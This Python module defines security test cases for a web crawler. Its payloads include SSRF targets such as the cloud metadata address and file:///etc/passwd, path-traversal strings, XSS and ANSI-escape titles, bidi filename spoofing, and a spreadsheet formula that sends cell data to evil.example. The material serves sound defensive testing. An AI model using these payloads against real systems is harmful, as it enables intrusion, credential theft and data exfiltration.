"""Security: ways out of the open web, secrets in addresses, and text that attacks whoever reads the output."""

from html import escape

from crawler.demo.faults.answers import fill, head, page, redirect, sound
from crawler.demo.faults.fault import Answer, Fault, Request, Wire, codes
from crawler.demo.faults.prose import paragraphs, story

SECRET = "hunter2-s3cret"
"""Password in addresses; it must never stand in output, log or report."""
_PRIVATE = codes("private_address", "bad_scheme", "offsite_redirect", "other_site", "bad_redirect", "bad_url")
PRIVATE_TARGETS = (
    "{vault}secret",
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/",
    "http://192.168.1.1/admin",
    "http://[::1]/",
    "http://[::ffff:10.0.0.1]/",
    "http://[fd00:ec2::254]/",
    "http://0x0a000001/",
    "http://167772161/",
    "http://0/",
    "http://224.0.0.1/",
    "file:///etc/passwd",
    "ftp://127.0.0.1/etc/passwd",
    "gopher://127.0.0.1:70/",
    "data:text/html,<h1>hello</h1>",
    "javascript:alert(1)",
)
"""Where no request may go; `{vault}` is a server on another loopback address that tells whether one did."""
_ATTACKS = {
    "script_title": "&lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(2)&gt; in a title",
    "ansi_title": "Red \x1b[31malert\x1b[0m and \x9b2J&#27;]0;owned&#7; in a title",
    "separator_title": "One line\u2028two lines\u2029three\u0085four&#10;five\r\nsix in a title",
    "formula_title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "bidi_title": "The \u202egnp.exe\u202c file and \u200bzero\ufeff width in a title",
}


def _xml(kind: str, content_type: str) -> Answer:
    async def answer(request: Request, wire: Wire) -> None:
        urls = [escape(fill(url, request.home, request.vault)) for url in PRIVATE_TARGETS]
        if kind == "sitemap":
            rows = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
            body = f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{rows}</urlset>'
        else:
            rows = "".join(f"<item><title>Item</title><link>{url}</link></item>" for url in urls)
            body = f'<rss version="2.0"><channel><title>News</title>{rows}</channel></rss>'
        await sound(body.encode(), content_type)(request, wire)

    return answer


async def _canonical_to_vault(request: Request, wire: Wire) -> None:
    body = story("A canonical address that is private", in_head=f'<link rel="canonical" href="{request.vault}secret">')
    await sound(body)(request, wire)


async def _sets_cookie_and_leaves(request: Request, wire: Wire) -> None:
    more = ["Set-Cookie: session=only-for-this-host; Path=/", f"Location: {request.vault}after-cookie"]
    await wire.send(head("302 Found", length=0, more=more))


async def _asks_for_password(request: Request, wire: Wire) -> None:
    if "authorization" in request.headers:
        await wire.send(head("302 Found", length=0, more=[f"Location: {request.vault}after-login"]))
    else:
        await sound(b"", status="401 Unauthorized", more=['WWW-Authenticate: Basic realm="x"'])(request, wire)


def _security(name: str, promise: str, answers: dict[str, Answer], links: tuple[str, ...], *expected: str) -> Fault:
    return Fault(name=name, room="security", promise=promise, expected=codes(*expected), answers=answers, links=links)


_STAYS = "no request leaves for a private address or a scheme other than http"
SECURITY = (
    _security("links_to_private", _STAYS, {}, PRIVATE_TARGETS),
    Fault(
        name="redirects_to_private",
        room="security",
        promise=_STAYS,
        expected=_PRIVATE,
        answers={f"/out/{n}/": redirect(url) for n, url in enumerate(PRIVATE_TARGETS)},
        links=tuple(f"/out/{n}/" for n in range(len(PRIVATE_TARGETS))),
    ),
    _security("sitemap_to_private", _STAYS, {"/sitemap.xml": _xml("sitemap", "application/xml")}, ()),
    _security("feed_to_private", _STAYS, {"/feed/": _xml("feed", "application/rss+xml")}, ()),
    _security(
        "canonical_to_private",
        "a canonical address elsewhere is not believed, and not asked for",
        {"/canonical-31/": _canonical_to_vault},
        ("/canonical-31/",),
    ),
    Fault(
        name="robots_to_private",
        room="security",
        promise="a robots.txt that redirects to a private address is not followed there",
        answers={"/robots.txt": redirect("{vault}robots.txt")},
        is_reachable=False,  # closed or open for now: both can be argued from RFC 9309
    ),
    _security(
        "credentials_in_links",
        "user and password of an address are nowhere in output, log or report",
        {"/credentials-32/": sound(story("An address with a password in it"))},
        (f"http://editor:{SECRET}@{{host}}/credentials-32/",),
    ),
    _security(
        "password_across_hosts",
        "a password is not sent on to another host after a redirect",
        {"/private-33/": _asks_for_password},
        (f"http://editor:{SECRET}@{{host}}/private-33/",),
    ),
    _security(
        "cookie_across_hosts",
        "a cookie of one host is not sent to another after a redirect",
        {"/cookie-34/": _sets_cookie_and_leaves},
        ("/cookie-34/",),
    ),
    _security(
        "paths_that_climb",
        "an address decides no file name: nothing is written outside the output folder",
        {"/..*": sound(story("A path that climbs")), "/%2e%2e*": sound(story("An encoded path that climbs"))},
        ("/../../../../tmp/climb-35/", "/%2e%2e/%2e%2e/%2e%2e/tmp/climb-36/", "/..%5c..%5cclimb-37/"),
    ),
    *(
        _security(
            name,
            "whatever the title holds, output, terminal, log, report and export stay in one piece",
            {"/title-38/": sound(page(title, paragraphs(name)))},
            ("/title-38/",),
        )
        for name, title in _ATTACKS.items()
    ),
)
